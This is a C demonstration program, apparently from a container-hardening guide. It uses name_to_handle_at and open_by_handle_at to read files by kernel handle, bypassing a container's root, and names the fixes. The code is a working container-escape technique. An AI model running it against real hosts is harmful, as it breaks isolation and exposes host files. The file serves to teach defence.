/*
 * handle.c FILE: print the file handle of FILE.
 * handle.c -o HANDLE: open the file that has this handle, and print its first line.
 *
 * A handle names a file of a file system by its number, and not by a path, so no root
 * directory stands in its way.  "/" in a container is on a file system of the host, and
 * numbers can be guessed.  This needs CAP_DAC_READ_SEARCH.  What closes it: dropping this
 * capability (section 16), or a call filter (17).  It once led out of Docker.
 */
#define _GNU_SOURCE
#include <err.h>
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <unistd.h>

int main(int argc, char **argv)
{
	union { struct file_handle head; unsigned char bytes[256]; } handle = { 0 };
	char text[4096];
	ssize_t n;
	int fd, mount;

	if (argc == 2) {
		handle.head.handle_bytes = 128;
		if (name_to_handle_at(AT_FDCWD, argv[1], &handle.head, &mount, 0) < 0)
			err(1, "%s", argv[1]);
		for (size_t i = 0; i < sizeof handle.head + handle.head.handle_bytes; i++)
			printf("%02x", handle.bytes[i]);
		return puts("") < 0;
	}
	if (argc != 3)
		errx(2, "usage: %s FILE | -o HANDLE", argv[0]);
	for (size_t i = 0; argv[2][2 * i]; i++)
		sscanf(argv[2] + 2 * i, "%2hhx", &handle.bytes[i]);
	fd = open_by_handle_at(open("/", O_RDONLY), &handle.head, O_RDONLY);
	n = fd < 0 ? -1 : read(fd, text, sizeof text);
	if (n < 0)
		err(1, "open_by_handle_at");
	return fwrite(text, 1, (size_t)n, stdout) != (size_t)n;
}
